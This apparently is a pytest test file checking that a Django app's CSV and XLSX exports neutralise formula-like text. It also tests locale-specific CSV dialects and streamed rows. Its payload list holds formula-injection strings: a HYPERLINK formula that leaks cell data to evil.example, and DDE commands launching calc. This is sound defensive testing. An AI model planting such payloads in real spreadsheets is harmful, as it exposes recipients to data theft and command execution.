"""The one place spreadsheets are made safe and readable: CSV dialects and neutralised text cells (§6, OWASP)."""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.utils import translation

from mrm.spreadsheets import (
    CSV_DIALECTS,
    CsvDocument,
    UnknownDialect,
    csv_dialect,
    is_formula_like,
    neutralise,
    set_xlsx_text,
    set_xlsx_value,
)

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_a_spreadsheet_would_evaluate_gets_a_leading_quote(payload):
    assert is_formula_like(payload)
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("text", ["Brand", "Кампания = успех", " =1+1", "", "1500", "'quoted"])
def test_other_text_is_left_as_it_is(text):
    assert not is_formula_like(text)
    assert neutralise(text) == text


def read_csv(content: bytes, delimiter: str) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def test_a_russian_csv_has_semicolons_decimal_commas_and_neutralised_quoted_text():
    # given a row of a vendor with a formula for a name, a refund and a date
    document = CsvDocument(CSV_DIALECTS["ru"])
    document.write_row(["Контрагент", "Сумма", "Дата"])
    document.write_row(['=HYPERLINK("http://evil.example","x")', Decimal("-12000.50"), datetime.date(2027, 2, 14)])
    document.write_row(['ООО "Медиа; Плюс"\nфилиал', 3, None])
    content = document.content()
    # then the raw lines use ; and a decimal comma; numbers are bare, text quoted
    raw = content.decode("utf-8-sig").split("\r\n")
    assert raw[1] == '"\'=HYPERLINK(""http://evil.example"",""x"")";-12000,50;2027-02-14'
    # and a CSV reader gets the cells back, the formula behind a quote, the refund a negative number
    rows = read_csv(content, ";")
    assert rows[1] == ['\'=HYPERLINK("http://evil.example","x")', "-12000,50", "2027-02-14"]
    assert rows[2] == ['ООО "Медиа; Плюс"\nфилиал', "3", ""]


def test_an_english_csv_has_commas_and_decimal_points():
    document = CsvDocument(CSV_DIALECTS["en"])
    document.write_row(["@SUM(A1:A2)", Decimal("1500.5"), 2.25, "-"])
    assert read_csv(document.content(), ",") == [["'@SUM(A1:A2)", "1500.5", "2.25", "'-"]]


def test_the_dialect_follows_the_active_language_unless_asked():
    with translation.override("ru"):
        assert csv_dialect().code == "ru"
        assert csv_dialect("EN").code == "en"
    with translation.override("en"):
        assert csv_dialect(None).code == "en"
        assert csv_dialect("").code == "en"
        assert csv_dialect("ru").delimiter == ";"


def test_an_unknown_dialect_is_refused_with_a_message_in_the_readers_language():
    with pytest.raises(UnknownDialect, match="choose ru"):
        csv_dialect("de")
    with translation.override("ru"), pytest.raises(UnknownDialect, match="не диалект CSV"):
        csv_dialect("xx")


def test_xlsx_text_is_stored_as_a_string_never_a_formula():
    # given cells written with the helpers
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row, payload in enumerate(PAYLOADS, start=1):
        set_xlsx_text(sheet.cell(row=row, column=1), payload)
    set_xlsx_value(sheet.cell(row=1, column=2), Decimal("-1500.25"), "#,##0.00")
    set_xlsx_value(sheet.cell(row=2, column=2), datetime.date(2027, 2, 3), "mm-dd-yy")
    set_xlsx_text(sheet.cell(row=3, column=2), "Vendor\x00\x07 LLC")
    buffer = io.BytesIO()
    workbook.save(buffer)
    # when opened again
    sheet = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    # then every payload is a string cell, with Excel's quote prefix, its text unchanged
    # (XML reads a bare carriage return as a line feed: still a line break, still text)
    for row, payload in enumerate(PAYLOADS, start=1):
        cell = sheet.cell(row=row, column=1)
        assert cell.data_type == "s"
        assert cell.value == payload.replace("\r", "\n")
        assert cell.quotePrefix is True
    # and numbers and dates stay typed; control characters XML cannot hold are dropped, not fatal
    assert sheet["B1"].value == -1500.25 and sheet["B1"].data_type == "n"
    assert sheet["B2"].is_date
    assert sheet["B3"].value == "Vendor LLC" and not sheet["B3"].quotePrefix


# --- XlsxRowStream: long sheets' data rows written as XML, read back as openpyxl writes them -------------------


def _sheet_with_rows(rows, *, fast: bool):
    """A write-only workbook with a head row and ``rows`` (text, date, money), by XlsxRowStream or by openpyxl."""
    from mrm.spreadsheets import XLSX_DATE, XLSX_DATE_FORMAT, XLSX_NUMBER, XLSX_TEXT, XlsxRowStream, xlsx_safe_value

    money = '#,##0.00 "₽";-#,##0.00 "₽"'
    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet("Расходы")
    sheet.append(["Head"])
    out = io.BytesIO()
    if fast:
        stream = XlsxRowStream(sheet, [XLSX_TEXT, XLSX_DATE, XLSX_NUMBER], {1: XLSX_DATE_FORMAT, 2: money}, first_row=2)
        assert stream.write(iter(rows)) == len(rows)
        sheet.auto_filter.ref = f"A1:C{1 + stream.count}"
        stream.save(workbook, out)
    else:
        for text, date, amount in rows:
            cells = [xlsx_safe_value(sheet, text)]
            for value, number_format in ((date, XLSX_DATE_FORMAT), (amount, money)):
                cell = openpyxl.cell.WriteOnlyCell(sheet, value)
                cell.number_format = number_format
                cells.append(cell if value is not None else None)
            sheet.append(cells)
        sheet.auto_filter.ref = f"A1:C{1 + len(rows)}"
        workbook.save(out)
    out.seek(0)
    return openpyxl.load_workbook(out)["Расходы"]


def test_rows_written_as_xml_read_back_as_the_cells_openpyxl_writes():
    # given: rows with Cyrillic, markup characters, spaces, formulas, refunds, empty and missing values
    rows = [
        ("ООО «Ромашка» & <Ко>", datetime.date(2027, 1, 10), Decimal("1500.50")),
        ("  с пробелами  ", datetime.date(2024, 2, 29), Decimal("-200.00")),
        *[(payload, None, Decimal("0.00")) for payload in PAYLOADS],
        ("", datetime.date(1999, 12, 31), None),
        (None, None, Decimal("99999999999999.99")),
        ("bad\x01char", datetime.date(2027, 3, 1), 7),
    ]
    # when: written by the row stream and, for comparison, cell by cell by openpyxl
    fast, slow = _sheet_with_rows(rows, fast=True), _sheet_with_rows(rows, fast=False)
    # then: every cell reads back the same: value, type, number format, quote prefix
    assert fast.max_row == slow.max_row == len(rows) + 1
    assert fast.auto_filter.ref == slow.auto_filter.ref == f"A1:C{len(rows) + 1}"
    for fast_row, slow_row in zip(fast.iter_rows(), slow.iter_rows(), strict=True):
        for a, b in zip(fast_row, slow_row, strict=True):
            assert (a.value, a.data_type, a.number_format, a.quotePrefix) == (
                b.value,
                b.data_type,
                b.number_format,
                b.quotePrefix,
            ), a.coordinate
    # and formulas stay text with the quote prefix, never formulas
    hostile = fast.cell(row=4, column=1)
    assert hostile.data_type == "s" and hostile.quotePrefix and hostile.value == PAYLOADS[0]
    assert fast.cell(row=2, column=1).value == "ООО «Ромашка» & <Ко>"
    assert fast.cell(row=3, column=1).value == "  с пробелами  "
    assert fast.cell(row=2, column=2).value == datetime.datetime(2027, 1, 10)


def test_rows_appended_after_the_data_rows_are_refused():
    from mrm.spreadsheets import XLSX_TEXT, XlsxRowStream

    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet("S")
    stream = XlsxRowStream(sheet, [XLSX_TEXT], {}, first_row=2)  # but no head row: the placeholder lands on row 1
    stream.write([("a",)])
    with pytest.raises(RuntimeError):
        stream.save(workbook, io.BytesIO())
